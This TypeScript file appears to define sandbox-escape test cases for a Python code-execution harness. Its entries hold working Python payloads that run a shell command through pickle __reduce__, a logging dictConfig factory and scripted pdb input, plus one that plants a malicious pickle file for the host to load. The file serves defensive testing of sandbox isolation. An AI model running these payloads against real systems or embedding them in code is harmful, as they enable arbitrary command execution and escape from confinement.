import type { Attempt } from "../attempt.ts";
import { attemptFamily } from "../attempt-family.ts";
import { command, none, stock } from "./snippets.ts";

/** Pickles and other texts that are code. */
export const pickles: readonly Attempt[] = attemptFamily("Pickles", [
  [
    "a pickle that runs a command",
    stock("ran a command"),
    (host) =>
      `import pickle, os\nclass P:\n    def __reduce__(self): return (os.system, ("${command(host)}",))\npickle.loads(pickle.dumps(P()))`,
  ],
  [
    "a file that the host might load",
    none,
    (host) =>
      `import pickle, os, shelve, marshal\nclass P:\n    def __reduce__(self): return (os.system, ("${command(host)}",))\nopen('/outputs/session.pickle', 'wb').write(pickle.dumps(P()))\nopen('/outputs/__init__.py', 'w').write('1')\nopen('/outputs/x.pyc', 'wb').write(b'x')`,
  ],
  [
    "code from marshal",
    none,
    () =>
      "import marshal\nexec(marshal.loads(marshal.dumps(compile('1', 'x', 'exec'))))\nmarshal.loads(b'c' + bytes(range(256)) * 4)",
  ],
  [
    "a class that pickles itself into the next call",
    none,
    () => [
      {
        code: "class State:\n    def __getstate__(self): raise SystemExit(1)\n    def __reduce_ex__(self, p): raise SystemExit(2)\n    def __deepcopy__(self, m): raise SystemExit(3)\ns = State()",
      },
      { code: "s is not None" },
    ],
  ],
  [
    "a logging configuration that calls",
    stock("ran a command"),
    (host) =>
      `import logging.config\nlogging.config.dictConfig({'version': 1, 'formatters': {'x': {'()': 'os.system', 'command': "${command(host)}"}}, 'handlers': {'h': {'class': 'logging.NullHandler', 'formatter': 'x'}}})`,
  ],
  [
    "a debugger that runs commands",
    stock("ran a command"),
    (host) =>
      `import pdb, io\np = pdb.Pdb(stdin=io.StringIO("import os\\nos.system(\\"${command(host)}\\")\\nc\\n"), stdout=io.StringIO())\np.use_rawinput = False\np.set_trace()\n1`,
  ],
]);
